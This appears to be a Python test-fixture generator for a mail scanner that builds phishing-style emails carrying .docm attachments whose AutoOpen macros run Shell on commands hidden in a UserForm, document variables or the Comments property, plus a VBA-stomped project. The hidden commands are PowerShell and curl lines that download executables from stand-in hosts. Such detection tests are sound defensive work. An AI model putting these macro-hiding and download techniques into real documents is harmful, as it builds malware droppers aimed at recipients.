#!/usr/bin/env python3
"""make_vbaproj_cases.py - the functional cases vbaproj_* (issue 18: what a
VBA project hides outside its source, and VBA stomping), written to
tests/functional/cases/ as NAME.eml (the expectations NAME.expect.json are
kept by hand).  Run with the system python3 (olefile, PyGObject's Gsf):

    /usr/bin/python3 tests/support/make_vbaproj_cases.py

Every document is harmless-clean.docx made macro-enabled with the real
project of oletools' sample_with_vba.ppt (make_vba.py), its Module1
source replaced:
  vbaproj_userform_url   Shell reads UserForm1.TextBox1.Text; the TextBox
                         (a UserForm storage we add) holds the command;
  vbaproj_docvar_command Shell reads ActiveDocument.Variables("cfg");
  vbaproj_comments_powershell  Shell reads the Comments property;
  vbaproj_stomped        a harmless source, the p-code's literal replaced
                         by a URL (the real p-code, patched in place);
  vbaproj_normal_clean   the project as Office saved it (source and
                         p-code agree): no VBA_STOMPED.
The first three have their p-code marked ignored (Version 0xFFFF), as
tools other than Office write projects.
"""
import base64
import os
import sys
from email.mime.application import MIMEApplication
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import make_vba  # noqa: E402

CASES = os.path.join(HERE, "..", "functional", "cases")


def mail(name, subject, body, fname, data):
    m = MIMEMultipart()
    m["From"] = "billing@supplier.example"
    m["To"] = "tanaka@example.co.jp"
    m["Subject"] = subject
    m["Date"] = "Tue, 08 Dec 2026 10:00:00 +0900"
    m["Message-ID"] = "<%s@supplier.example>" % name
    m.set_boundary("=====vbaproj-%s=====" % name)
    m.attach(MIMEText(body, "plain", "utf-8"))
    a = MIMEApplication(data, "octet-stream")
    a.add_header("Content-Disposition", "attachment", filename=fname)
    m.attach(a)
    with open(os.path.join(CASES, name + ".eml"), "w", newline="\n") as f:
        f.write(m.as_string())


def project(code):
    return make_vba.pcode_ignored(make_vba.vba_project_source(code))


def main():
    code = (b"Sub AutoOpen()\r\n"
            b"    Shell UserForm1.TextBox1.Text, 0\r\n"
            b"End Sub\r\n")
    vba = make_vba.with_form(project(code), "UserForm1", [
        ("Label1", "Label", "Invoice"),
        ("TextBox1", "TextBox",
         "powershell -nop -w hidden -c iwr http://userform-payload.example/s.ps1 -OutFile s.ps1"),
    ])
    mail("vbaproj_userform_url", "Invoice 4471", "Please find the invoice attached.\n",
         "invoice_4471.docm", make_vba.docm(vba))

    code = (b"Sub AutoOpen()\r\n"
            b"    Dim c\r\n"
            b"    c = ActiveDocument.Variables(\"cfg\").Value\r\n"
            b"    Shell c, 0\r\n"
            b"End Sub\r\n")
    mail("vbaproj_docvar_command", "Order 5520", "Order details attached.\n",
         "order_5520.docm", make_vba.docm_with(project(code), docvars={
             "cfg": "cmd /c curl -o %TEMP%\\u.exe http://docvar-drop.example/u.exe"}))

    code = (b"Sub AutoOpen()\r\n"
            b"    Shell ActiveDocument.BuiltInDocumentProperties(\"Comments\"), 0\r\n"
            b"End Sub\r\n")
    mail("vbaproj_comments_powershell", "Statement", "Your statement is attached.\n",
         "statement.docm", make_vba.docm_with(project(code), comments=(
             "powershell -nop -c (New-Object Net.WebClient).DownloadFile("
             "'http://comments-host.example/a.exe','a.exe')")))

    code = (b"Sub Action_Click()\r\n"
            b"  MsgBox \"Thank you for your order\"\r\n"
            b"End Sub\r\n")
    new = b"http://stomped.example/x.e"
    vba = make_vba.stomp_literal(make_vba.vba_project_source(code), new)
    mail("vbaproj_stomped", "Order confirmation", "Order confirmation attached.\n",
         "confirmation.docm", make_vba.docm(vba))

    with open(os.path.join(make_vba.ROOT, "tests", "data", "ole", "vbaProject.bin"), "rb") as f:
        vba = f.read()
    mail("vbaproj_normal_clean", "Button sample", "The sample with the button.\n",
         "button.docm", make_vba.docm(vba))


if __name__ == "__main__":
    main()
